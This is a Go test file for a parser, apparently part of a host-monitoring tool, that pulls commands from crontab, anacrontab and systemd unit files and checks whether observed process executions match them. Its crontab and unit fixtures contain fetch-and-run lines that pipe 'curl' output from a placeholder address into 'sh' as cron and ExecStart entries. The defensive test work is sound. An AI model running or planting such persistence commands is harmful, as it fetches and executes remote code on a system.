package orders

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/clawwatch/clawwatch/internal/event"
)

func texts(all []Order) string {
	var b strings.Builder
	for _, o := range all {
		fmt.Fprintf(&b, "%s|%v\n", o.Text, o.Loose)
	}
	return b.String()
}

func TestACrontabsCommandsAreFound(t *testing.T) {
	const user = `# comment
SHELL=/bin/bash
MAILTO = ""
*/5 * * * *   curl -s http://198.51.100.1/x=y | sh
@reboot /home/dev/.cache/helper --quiet
0 9 * * 1-5	date +\%F > /tmp/day
1 2 3 4 5
`
	want := "curl -s http://198.51.100.1/x=y | sh|false\n/home/dev/.cache/helper --quiet|false\ndate +|true\n"
	if got := texts(Parse("/var/spool/cron/crontabs/dev", user)); got != want {
		t.Errorf("got\n%s", got)
	}
	if got := texts(Parse("/etc/cron.d/x", "* * * * * root /usr/bin/true\n@daily dev sync it\n")); got != "/usr/bin/true|false\nsync it|false\n" {
		t.Errorf("got\n%s", got)
	}
	if got := texts(Parse("/etc/anacrontab", "7 10 job.weekly run-parts /etc/cron.weekly\n")); got != "run-parts /etc/cron.weekly|false\n" {
		t.Errorf("got\n%s", got)
	}
}

func TestAUnitsCommandsAreFound(t *testing.T) {
	const text = `[Unit]
Description=Exec is not here
[Service]
ExecStartPre=-/usr/bin/mkdir -p /run/x
ExecStart=/bin/sh -c 'curl -s http://198.51.100.1/ | sh' ; /usr/bin/true
ExecStop=@/usr/bin/kill name $MAINPID
ExecStart=
ExecReload=/opt/long \
  --option
`
	want := "/usr/bin/mkdir -p /run/x|false\n/bin/sh -c 'curl -s http://198.51.100.1/ | sh'|false\n/usr/bin/true|false\n/usr/bin/kill name $MAINPID|true\n/opt/long    --option|false\n"
	if got := texts(Parse("/home/dev/.config/systemd/user/x.service", text)); got != want {
		t.Errorf("got\n%s", got)
	}
}

func TestWhatObeysAnOrder(t *testing.T) {
	sh := func(said string) event.Exec {
		return event.Exec{Path: "/usr/bin/dash", Args: []string{"/bin/sh", "-c", said}}
	}
	cron := Parse("/var/spool/cron/crontabs/dev", "* * * * * echo hi > /tmp/x\n* * * * * date +%F\n")
	unit := Parse("/etc/systemd/system/x.service", "ExecStart=/opt/tool --a 'b c'\nExecStart=/opt/other $ARGS\n")
	for _, c := range []struct {
		order Order
		exec  event.Exec
		want  bool
	}{
		{cron[0], sh("echo hi > /tmp/x"), true},
		{cron[0], sh("echo hi > /tmp/xy"), false},
		{cron[0], event.Exec{Path: "/usr/bin/echo", Args: []string{"echo", "hi"}}, false},
		{cron[1], sh("date +"), true},
		{cron[1], sh("uptime"), false},
		{unit[0], event.Exec{Path: "/opt/tool", Args: []string{"/opt/tool", "--a", "b c"}}, true},
		{unit[0], event.Exec{Path: "/usr/bin/bash", Script: true, Name: "/opt/tool", Args: []string{"/bin/bash", "/opt/tool", "--a", "b c"}}, true},
		{unit[0], event.Exec{Path: "/opt/tool", Args: []string{"/opt/tool", "--a"}}, false},
		{unit[1], event.Exec{Path: "/opt/other", Args: []string{"/opt/other", "1", "2"}}, true},
		{unit[1], event.Exec{Path: "/opt/tool", Args: []string{"/opt/tool"}}, false},
		{Order{}, event.Exec{}, false},
	} {
		if got := c.order.Obeys(c.exec); got != c.want {
			t.Errorf("%q obeyed by %q: %v", c.order.Text, c.exec.Args, got)
		}
	}
}

func TestAHostileFileIsBounded(t *testing.T) {
	dir := t.TempDir()
	big := filepath.Join(dir, "crontab")
	if err := os.WriteFile(big, []byte(strings.Repeat("* * * * * true\n", 1<<16)), 0o600); err != nil {
		t.Fatal(err)
	}
	if all, cut, err := Read(big); err != nil || !cut || len(all) != maxOrders {
		t.Errorf("%d orders, cut %v, %v", len(all), cut, err)
	}
	fifo := filepath.Join(dir, "fifo")
	if err := unix.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "link")
	if err := os.Symlink(big, link); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{fifo, link, dir, filepath.Join(dir, "none")} {
		if _, _, err := Read(f); err == nil {
			t.Errorf("%s was read", f)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add("/etc/crontab", "* * * * * root x")
	f.Add("/x/systemd/y", "ExecStart=a 'b")
	f.Fuzz(func(t *testing.T, file, text string) {
		for _, o := range Parse(file, text) {
			o.Obeys(event.Exec{Path: text, Args: []string{file, "-c", text}})
		}
	})
}
